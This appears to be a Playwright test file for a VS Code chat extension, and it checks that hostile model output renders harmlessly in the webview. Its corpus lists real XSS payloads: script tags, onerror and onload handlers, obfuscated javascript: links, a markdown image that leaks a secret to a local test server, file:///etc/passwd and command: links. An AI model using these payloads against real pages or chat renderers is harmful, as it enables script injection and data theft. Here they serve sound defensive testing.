/**
 * Hostile model output, streamed into the real chat webview in a real VS Code, must render inert:
 * no script runs, nothing loads from the network, no link leaves through anything but the host.
 */
import assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Frame } from 'playwright-core';
import { withFailureDump } from './harness/browser';
import type { Fixture } from './fixture';
import { askAndWait, lastAnswer, openChat, startFixture } from './fixture';

let fx: Fixture;
let chat: Frame;
let leak: http.Server;
let leakHits = 0;
let leakUrl = '';

/** Each line tries a different way to run code, load something or navigate. */
function hostileCorpus(origin: string): string[] {
  const pwn = 'window.__pwned=1';
  return [
    `<script>${pwn}</script>`,
    `text <script src="${origin}/s.js"></script> inline`,
    `<img src=x onerror="${pwn}">`,
    `<img src="${origin}/img.png">`,
    `![exfiltrate](${origin}/md-image.png?secret=key)`,
    `![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
    `[click me](javascript:${pwn})`,
    `[entity](jav&#x61;script:${pwn})`,
    `[upper](JaVaScRiPt:${pwn})`,
    `[data link](data:text/html,<script>${pwn}</script>)`,
    `[vb](vbscript:msgbox(1))`,
    `[cmd](command:workbench.action.terminal.new)`,
    `[file](file:///etc/passwd)`,
    `<a href="javascript:${pwn}">raw anchor</a>`,
    `<svg onload="${pwn}"><circle r="5"/></svg>`,
    `<iframe src="${origin}/frame"></iframe>`,
    `<object data="${origin}/o"></object><embed src="${origin}/e">`,
    `<style>body{background:url(${origin}/css-bg)}</style>`,
    `<div style="background:url(${origin}/inline-style)">styled</div>`,
    `<meta http-equiv="refresh" content="0;url=${origin}/meta">`,
    `<form action="${origin}/form"><button>go</button></form>`,
    `<details open ontoggle="${pwn}">x</details>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${pwn}">`,
    `<a href="${origin}/plain">a plain http link is fine</a> and <${origin}/autolink>`,
    `\`\`\`html\n<script>${pwn}</script>\n\`\`\``,
  ];
}

before(async () => {
  leak = http.createServer((_req, res) => {
    leakHits++;
    res.end('x');
  });
  await new Promise<void>((resolve) => leak.listen(0, '127.0.0.1', resolve));
  leakUrl = `http://127.0.0.1:${(leak.address() as AddressInfo).port}`;
  fx = await startFixture({ label: 'hostile', theme: 'dark' });
});

after(async () => {
  await fx?.close();
  await new Promise<void>((resolve) => leak.close(() => resolve()));
});

function step(name: string, fn: () => Promise<void>): void {
  it(name, { timeout: 120_000 }, () => withFailureDump(fx.page, `hostile-${name}`, fn));
}

describe('hostile model output in the real webview', () => {
  step('has a strict content security policy', async () => {
    chat = await openChat(fx.page);
    const csp = await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.ok(csp);
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /connect-src 'none'/);
    assert.match(csp, /script-src 'nonce-[A-Za-z0-9+/=]+'/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  });

  step('streams a corpus of attacks and renders every one inert', async () => {
    const corpus = hostileCorpus(leakUrl);
    const scriptsBefore = await chat.evaluate(() => document.querySelectorAll('script').length);
    fx.server.script({ text: corpus.join('\n\n'), chunkSize: 7, chunkDelayMs: 2 });
    await askAndWait(chat, 'Show me everything', 'done', 90_000);
    const report = await chat.evaluate(() => {
      const transcript = document.querySelector('#transcript');
      if (!transcript) return { error: 'no transcript' };
      // Model output lands in .turn-body; our own icons (inline SVG) sit in buttons and headers.
      const forbidden = Array.from(transcript.querySelectorAll('.turn-body :is(script, iframe, object, embed, style, svg, math, img, form, meta, link, base)'))
        .filter((element) => !element.closest('button'));
      const outsideBodies = Array.from(transcript.querySelectorAll('script, iframe, object, embed, style, img, form, meta, link, base'));
      const onAttributes: string[] = [];
      const styleAttributes: string[] = [];
      const badHrefs: string[] = [];
      for (const element of Array.from(transcript.querySelectorAll('*'))) {
        for (const attribute of Array.from(element.attributes)) {
          if (/^on/i.test(attribute.name)) onAttributes.push(`${element.tagName}.${attribute.name}`);
          if (attribute.name === 'style') styleAttributes.push(element.tagName);
          if ((attribute.name === 'href' || attribute.name === 'src' || attribute.name === 'action' || attribute.name === 'xlink:href') && !/^(https?:|mailto:|#)/i.test(attribute.value.trim())) {
            badHrefs.push(`${element.tagName} ${attribute.name}=${attribute.value.slice(0, 60)}`);
          }
        }
      }
      return {
        forbidden: [...forbidden, ...outsideBodies].map((element) => element.tagName),
        onAttributes,
        styleAttributes,
        badHrefs,
        pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
        scripts: document.querySelectorAll('script').length,
        text: transcript.textContent?.length ?? 0,
      };
    });
    assert.deepEqual(report, { ...report, forbidden: [], onAttributes: [], styleAttributes: [], badHrefs: [], pwned: null, scripts: scriptsBefore });
    assert.equal(leakHits, 0, `rendering made ${leakHits} request(s) to the leak server`);
    assert.ok((report.text ?? 0) > 500, 'the answer was rendered as text');
    assert.ok((await lastAnswer(chat).locator('a[href^="http://127.0.0.1"]').count()) >= 1, 'a plain http link survives as a link');
  });

  step('opens links only through the host, and only web links', async () => {
    const before = chat.url();
    const opened: string[] = [];
    fx.workbench.context.on('page', (page) => opened.push(page.url()));
    const links = lastAnswer(chat).locator('.turn-body a');
    const count = await links.count();
    for (let i = 0; i < count; i++) await links.nth(i).click({ timeout: 5000 }).catch(() => undefined);
    await fx.page.waitForTimeout(1500);
    assert.equal(chat.url(), before, 'the webview did not navigate');
    assert.equal(await chat.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null), null);
    // The host opens what passed its scheme check as a new browser tab (code-server's openExternal).
    for (const url of opened) assert.match(url, /^(https?:|about:blank)/, `opened ${url}`);
  });
});
